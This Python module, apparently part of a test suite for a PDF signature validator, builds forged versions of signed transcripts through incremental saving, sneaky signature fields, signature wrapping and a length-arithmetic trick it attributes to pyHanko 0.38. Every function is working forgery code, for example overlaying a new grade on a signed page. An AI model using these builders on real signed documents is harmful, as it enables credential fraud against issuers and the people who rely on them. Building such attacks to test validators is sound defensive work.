"""Builders of forged transcripts: each takes signed PDF bytes and returns the attack.

Incremental updates go through pyHanko's `IncrementalPdfFileWriter` (a real new revision
with its own xref section and trailer, as Acrobat or any editor would write it); the
byte-level attacks (signature wrapping, universal signature forgery, appending without an
xref) edit the file in place and keep every offset the xref tables point to valid, so the
forgery is parsed exactly as the attacker intends rather than failing on a broken file.
"""

from __future__ import annotations

import re
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from io import BytesIO

import pikepdf
from asn1crypto import parser as asn1_parser
from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.generic import pdf_name
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
from pyhanko.pdf_utils.reader import PdfFileReader
from pyhanko.sign.fields import SigFieldSpec, append_signature_field, enumerate_sig_fields

# --- the signature's place in the file ----------------------------------------------------


@dataclass(frozen=True)
class Layout:
    """Where the last signature sits: ``/ByteRange [0 len1 start2 len2]`` and its text."""

    len1: int
    start2: int
    len2: int
    byterange_at: int  # offset of the "[" of the /ByteRange array
    byterange_width: int  # bytes from "[" up to the next "/" (array plus its space padding)

    @property
    def gap(self) -> tuple[int, int]:
        """The unsigned bytes: the /Contents hex string with its angle brackets."""
        return self.len1, self.start2

    @property
    def end(self) -> int:
        return self.start2 + self.len2


_BYTERANGE = re.compile(rb"/ByteRange\s*(\[\s*(\d+)\s+(\d+)\s+(\d+)\s+(\d+)\s*\]\s*)")


def layout(pdf: bytes) -> Layout:
    match = list(_BYTERANGE.finditer(pdf))[-1]
    start, len1, start2, len2 = (int(match.group(i)) for i in range(2, 6))
    assert start == 0
    return Layout(len1, start2, len2, match.start(1), len(match.group(1)))


def with_byterange(pdf: bytes, values: bytes) -> bytes:
    """`pdf` with the /ByteRange array text replaced by `values`, padded to the same width
    with spaces (the signed bytes change, every offset stays the same)."""
    lay = layout(pdf)
    if len(values) > lay.byterange_width:
        raise ValueError("new /ByteRange does not fit")
    text = values.ljust(lay.byterange_width)
    return pdf[: lay.byterange_at] + text + pdf[lay.byterange_at + lay.byterange_width:]


def with_contents(pdf: bytes, gap: bytes) -> bytes:
    """`pdf` with the unsigned gap (``<hex>``) replaced by `gap` of the same length."""
    start, end = layout(pdf).gap
    if len(gap) != end - start:
        raise ValueError("replacement must keep the gap's length")
    return pdf[:start] + gap + pdf[end:]


def rename_key(pdf: bytes, key: bytes, new: bytes, *, last: bool = True) -> bytes:
    """Rename a dictionary key in the last signature dictionary (same length)."""
    assert len(key) == len(new)
    at = pdf.rfind(key) if last else pdf.find(key)
    assert at >= 0
    return pdf[:at] + new + pdf[at + len(key):]


# --- incremental updates through pyHanko --------------------------------------------------


def incremental(pdf: bytes, edit: Callable[[IncrementalPdfFileWriter], None]) -> bytes:
    """Append one revision (objects, xref section, trailer) made by `edit`."""
    writer = IncrementalPdfFileWriter(BytesIO(pdf), strict=False)
    edit(writer)
    out = BytesIO()
    writer.write(out)
    return out.getvalue()


def helvetica() -> generic.DictionaryObject:
    return generic.DictionaryObject({
        pdf_name("/Type"): pdf_name("/Font"),
        pdf_name("/Subtype"): pdf_name("/Type1"),
        pdf_name("/BaseFont"): pdf_name("/Helvetica"),
    })


def overlay_ops(text: str, x: float = 360, y: float = 500) -> bytes:
    """A white box over (x, y) and `text` in Helvetica on it: a new grade drawn on top."""
    return (
        f"q 1 1 1 rg {x - 4} {y - 4} 90 24 re f 0 0 0 rg "
        f"BT /FAtk 15 Tf {x} {y + 2} Td ({text}) Tj ET Q"
    ).encode("ascii")


def page_of(pdf: bytes, needle: bytes) -> int:
    """Index of the first page whose (decoded) content contains `needle`."""
    with pikepdf.open(BytesIO(pdf)) as doc:
        for index, page in enumerate(doc.pages):
            if needle in page.obj.Contents.read_bytes():
                return index
    raise LookupError(needle)


def add_page_content(pdf: bytes, page: int, ops: bytes) -> bytes:
    """ISA: a new content stream appended to a page (drawn over what was signed)."""

    def edit(w: IncrementalPdfFileWriter) -> None:
        ref = w.add_object(generic.StreamObject(stream_data=ops))
        resources = generic.DictionaryObject({
            pdf_name("/Font"): generic.DictionaryObject({pdf_name("/FAtk"): helvetica()})
        })
        w.add_stream_to_page(page, ref, resources=resources)

    return incremental(pdf, edit)


def _page_contents_ref(w: IncrementalPdfFileWriter, page: int) -> generic.IndirectObject:
    page_ref, _ = w.find_page_for_modification(page)
    ref = page_ref.get_object().raw_get("/Contents")
    assert isinstance(ref, generic.IndirectObject)
    return ref


def replace_object(w: IncrementalPdfFileWriter, ref: generic.IndirectObject,
                   obj: generic.PdfObject) -> None:
    """Write a new version of object `ref` (same number) in the update."""
    w.objects[(ref.generation, ref.idnum)] = obj


def change_page_text(pdf: bytes, old: bytes, new: bytes) -> bytes:
    """ISA: the page's content stream rewritten (same object number) with `old` -> `new`."""
    page = page_of(pdf, old)

    def edit(w: IncrementalPdfFileWriter) -> None:
        ref = _page_contents_ref(w, page)
        data = ref.get_object().data
        assert old in data
        replace_object(w, ref, generic.StreamObject(stream_data=data.replace(old, new)))

    return incremental(pdf, edit)


def _embedded_file_ref(w: IncrementalPdfFileWriter, name: str) -> generic.IndirectObject:
    names = w.root["/Names"]["/EmbeddedFiles"]["/Names"]
    for i in range(0, len(names), 2):
        if str(names[i]) == name:
            ref = names[i + 1].get_object()["/EF"].raw_get("/F")
            assert isinstance(ref, generic.IndirectObject)
            return ref
    raise LookupError(name)


def replace_attachment(pdf: bytes, name: str, data: bytes) -> bytes:
    """ISA: the embedded file's stream rewritten (same object number) with `data`."""

    def edit(w: IncrementalPdfFileWriter) -> None:
        ref = _embedded_file_ref(w, name)
        old = ref.get_object()
        stream = generic.StreamObject(
            generic.DictionaryObject({k: v for k, v in old.items()
                                      if k not in ("/Length", "/Filter", "/DecodeParms")}),
            stream_data=data,
        )
        params = stream.get("/Params")
        if isinstance(params, generic.DictionaryObject):
            params[pdf_name("/Size")] = generic.NumberObject(len(data))
        replace_object(w, ref, stream)

    return incremental(pdf, edit)


def add_annotation(pdf: bytes, page: int, text: str) -> bytes:
    """ISA: a FreeText annotation (white box, new grade) over the page."""

    def edit(w: IncrementalPdfFileWriter) -> None:
        page_ref, _ = w.find_page_for_modification(page)
        appearance = generic.StreamObject(
            generic.DictionaryObject({
                pdf_name("/Type"): pdf_name("/XObject"),
                pdf_name("/Subtype"): pdf_name("/Form"),
                pdf_name("/BBox"): generic.ArrayObject(map(generic.NumberObject, (0, 0, 90, 24))),
                pdf_name("/Resources"): generic.DictionaryObject({
                    pdf_name("/Font"): generic.DictionaryObject({pdf_name("/FAtk"): helvetica()})
                }),
            }),
            stream_data=overlay_ops(text, 4, 4),
        )
        annot = generic.DictionaryObject({
            pdf_name("/Type"): pdf_name("/Annot"),
            pdf_name("/Subtype"): pdf_name("/FreeText"),
            pdf_name("/Rect"): generic.ArrayObject(
                map(generic.NumberObject, (356, 496, 446, 520))),
            pdf_name("/Contents"): generic.TextStringObject(text),
            pdf_name("/DA"): generic.TextStringObject("/Helv 15 Tf 0 g"),
            pdf_name("/F"): generic.NumberObject(4),
            pdf_name("/AP"): generic.DictionaryObject({pdf_name("/N"): w.add_object(appearance)}),
        })
        w.register_annotation(page_ref, w.add_object(annot))

    return incremental(pdf, edit)


def _appearance(w: IncrementalPdfFileWriter, text: str) -> generic.IndirectObject:
    """A form XObject drawing a white box with `text` in Helvetica (90 x 24 points)."""
    return w.add_object(generic.StreamObject(
        generic.DictionaryObject({
            pdf_name("/Type"): pdf_name("/XObject"),
            pdf_name("/Subtype"): pdf_name("/Form"),
            pdf_name("/BBox"): generic.ArrayObject(map(generic.NumberObject, (0, 0, 90, 24))),
            pdf_name("/Resources"): generic.DictionaryObject({
                pdf_name("/Font"): generic.DictionaryObject({pdf_name("/FAtk"): helvetica()})
            }),
        }),
        stream_data=overlay_ops(text, 4, 4),
    ))


def add_sneaky_signature_field(pdf: bytes, page: int, text: str) -> bytes:
    """SSA (Mainka et al. 2021): an *unsigned* signature field whose widget appearance
    draws over the page. Adding signature fields is what DocMDP FILL_FORMS permits."""

    def edit(w: IncrementalPdfFileWriter) -> None:
        append_signature_field(w, SigFieldSpec("Sneaky", on_page=page,
                                               box=(356, 496, 446, 520)))
        for _name, _value, ref in enumerate_sig_fields(w, with_name="Sneaky"):
            field = ref.get_object()
            field[pdf_name("/AP")] = generic.DictionaryObject(
                {pdf_name("/N"): _appearance(w, text)})
            w.update_container(field)

    return incremental(pdf, edit)


def rewrite_info(pdf: bytes, title: str) -> bytes:
    """The document information dictionary's /Title replaced (shown by viewers)."""

    def edit(w: IncrementalPdfFileWriter) -> None:
        info_ref = w.trailer.raw_get("/Info")
        info = generic.DictionaryObject(info_ref.get_object())
        info[pdf_name("/Title")] = generic.TextStringObject(title)
        replace_object(w, info_ref, info)

    return incremental(pdf, edit)


def rewrite_xmp(pdf: bytes, old: bytes, new: bytes) -> bytes:
    """The XMP metadata replaced by a new stream object with `old` -> `new`, the catalog
    pointing at it (as a metadata-updating tool would write it)."""

    def edit(w: IncrementalPdfFileWriter) -> None:
        stream = w.root["/Metadata"]
        data = stream.data
        assert old in data
        w.root[pdf_name("/Metadata")] = w.add_object(generic.StreamObject(
            generic.DictionaryObject({k: v for k, v in stream.items()
                                      if k not in ("/Length", "/Filter", "/DecodeParms")}),
            stream_data=data.replace(old, new)))
        w.update_root()

    return incremental(pdf, edit)


def change_form_defaults(pdf: bytes) -> bytes:
    """/NeedAppearances on and a new default appearance in the form dictionary."""

    def edit(w: IncrementalPdfFileWriter) -> None:
        form = w.root["/AcroForm"]
        form[pdf_name("/NeedAppearances")] = generic.BooleanObject(True)
        form[pdf_name("/DA")] = generic.TextStringObject("/Helv 40 Tf 1 0 0 rg")
        w.update_container(form)

    return incremental(pdf, edit)


def change_catalog_version(pdf: bytes) -> bytes:
    """The catalog's /Version raised to 2.0 (no longer the PDF/A-3 the issuer made)."""

    def edit(w: IncrementalPdfFileWriter) -> None:
        w.root[pdf_name("/Version")] = pdf_name("/2.0")
        w.update_root()

    return incremental(pdf, edit)


# --- raw appends (no xref) and hand-written xref sections -------------------------------


def stream_object(number: int, data: bytes, *, ascii_hex: bool = False) -> bytes:
    """The text of an indirect stream object: FlateDecode, or ASCIIHexDecode when it must
    hold no parentheses or backslashes (to sit inside a PDF literal string)."""
    if ascii_hex:
        packed, name = data.hex().encode("ascii") + b">", b"/ASCIIHexDecode"
    else:
        packed, name = zlib.compress(data), b"/FlateDecode"
    return (b"%d 0 obj\n<< /Length %d /Filter %s >>\nstream\n" % (number, len(packed), name)
            + packed + b"\nendstream\nendobj\n")


def trailer_of(pdf: bytes) -> generic.DictionaryObject:
    return PdfFileReader(BytesIO(pdf), strict=False).trailer_view


def startxref_of(pdf: bytes) -> int:
    return int(pdf[pdf.rindex(b"startxref"):].split()[1])


def xref_only_update(pdf: bytes, entries: dict[int, int], objects: bytes = b"", *,
                     trailer_from: bytes | None = None, prev: int | None = None,
                     root: int | None = None) -> bytes:
    """A hand-written revision: `objects` (raw text, may be empty), then an xref section
    mapping object numbers to byte offsets (anywhere in the result), then the trailer.

    The trailer copies /Size, /Root, /Info and /ID from `trailer_from` (default `pdf`);
    /Prev is `prev` (default: `pdf`'s startxref); `root` replaces the catalog's number.
    """
    template = pdf if trailer_from is None else trailer_from
    trailer = trailer_of(template)
    prev = startxref_of(template) if prev is None else prev
    text = b"xref\n"
    for number, offset in sorted(entries.items()):
        text += b"%d 1\n%010d 00000 n \n" % (number, offset)
    size = max(int(trailer["/Size"]), *(n + 1 for n in entries))
    catalog = trailer.raw_get("/Root")
    root_ref = (catalog.idnum, catalog.generation) if root is None else (root, 0)
    text += b"trailer\n<< /Size %d /Root %d %d R " % (size, *root_ref)
    if "/Info" in trailer:
        info = trailer.raw_get("/Info")
        text += b"/Info %d %d R " % (info.idnum, info.generation)
    ids = trailer["/ID"]
    text += b"/ID [<%s> <%s>] /Prev %d >>\n" % (
        ids[0].original_bytes.hex().encode(), ids[1].original_bytes.hex().encode(), prev)
    body = (pdf if pdf.endswith(b"\n") else pdf + b"\n") + objects
    return body + text + b"startxref\n%d\n%%%%EOF\n" % len(body)


def literal(data: bytes) -> bytes:
    """A PDF literal string holding `data` exactly."""
    escaped = data.replace(b"\\", b"\\\\").replace(b"(", b"\\(").replace(b")", b"\\)")
    return b"(" + escaped.replace(b"\r", b"\\r") + b")"


def signature_object(pdf: bytes) -> tuple[int, int, int]:
    """(object number, offset of its body, offset after its endobj) of the last signature."""
    lay = layout(pdf)
    head = pdf.rindex(b" obj", 0, lay.len1)
    start = pdf.rindex(b"\n", 0, head) + 1
    number = int(pdf[start:head].split()[0])
    end = pdf.index(b"endobj", lay.start2) + len(b"endobj")
    return number, start, end


def der_hex(pdf: bytes) -> bytes:
    """The signature's DER value as hex, without the zero padding."""
    start, end = layout(pdf).gap
    contents = bytes.fromhex(pdf[start + 1:end - 1].decode("ascii"))
    _, _, _, header, body, trailer = asn1_parser.parse(contents)
    return contents[: len(header) + len(body) + len(trailer)].hex().upper().encode("ascii")


def content_object(pdf: bytes, page: int) -> tuple[int, bytes]:
    """(object number, decoded data) of a page's single content stream."""
    with pikepdf.open(BytesIO(pdf)) as doc:
        contents = doc.pages[page].obj.Contents
        return contents.objgen[0], contents.read_bytes()


# --- signature wrapping ---------------------------------------------------------------------


def relocate(pdf: bytes, inserted: bytes, *, rewrite_byterange: bool) -> tuple[bytes, int]:
    """SWA: `inserted` put between the signature value and the second signed part, which
    moves down; with `rewrite_byterange` the /ByteRange (inside that part) is changed to
    point at its new place. Returns the file (without the original trailing bytes after
    the signed range) and the offset of `inserted`."""
    lay = layout(pdf)
    end = lay.gap[1]
    second = pdf[end:lay.end]
    if rewrite_byterange:
        values = b"[0 %d %d %d]" % (lay.len1, lay.start2 + len(inserted), lay.len2)
        at = lay.byterange_at - end
        second = second[:at] + values.ljust(lay.byterange_width) + second[
            at + lay.byterange_width:]
    return pdf[:end] + inserted + second + pdf[lay.end:], end


def stuff_gap(pdf: bytes, payload: bytes) -> tuple[bytes, int]:
    """The signature value shrunk to its DER, `payload` hidden after it inside the
    signature dictionary as a string (``<DER> /Pad (payload)``): same length, same signed
    bytes. Returns the file and the offset of `payload`."""
    start, end = layout(pdf).gap
    head = b"<" + der_hex(pdf) + b"> /Pad ("
    gap = head + payload + b")"
    if len(gap) > end - start:
        raise ValueError("payload does not fit in the signature's padding")
    return with_contents(pdf, gap.ljust(end - start)), start + len(head)


def override_signature(signed: bytes, modified: bytes) -> bytes:
    """`modified` (= `signed` plus updates) with one more update that redefines the
    signature dictionary: same /ByteRange, but /Contents a literal string holding the DER
    followed by filler sized so that ``len(file) == len1 + len2 + 2 * len(Contents) + 2``,
    the arithmetic by which pyHanko 0.38 declares a signature to cover the entire file."""
    lay = layout(signed)
    number, start, end = signature_object(signed)
    gap_start, gap_end = lay.gap
    der = bytes.fromhex(der_hex(signed).decode("ascii"))
    head, tail = signed[start:gap_start], signed[gap_end:end]
    offset = len(modified) + (0 if modified.endswith(b"\n") else 1)
    pad = 0
    for _ in range(8):
        contents = der + b"A" * pad
        body = head + literal(contents) + tail + b"\n"
        forged = xref_only_update(modified, {number: offset}, body)
        excess = len(forged) - (lay.len1 + lay.len2 + 2 * len(contents) + 2)
        if excess == 0:
            return forged
        pad += excess
    raise AssertionError("padding did not converge")


def object_offset(pdf: bytes, number: int) -> int:
    """Offset of the last definition of object `number` in the file's text."""
    return pdf.rindex(b"\n%d 0 obj" % number) + 1


def without_attachments(pdf: bytes) -> bytes:
    """`pdf` rewritten without its embedded files (to attach others)."""
    with pikepdf.open(BytesIO(pdf)) as doc:
        for name in list(doc.attachments):
            del doc.attachments[name]
        if "/AF" in doc.Root:
            del doc.Root.AF
        out = BytesIO()
        doc.save(out, force_version="1.7")
        return out.getvalue()
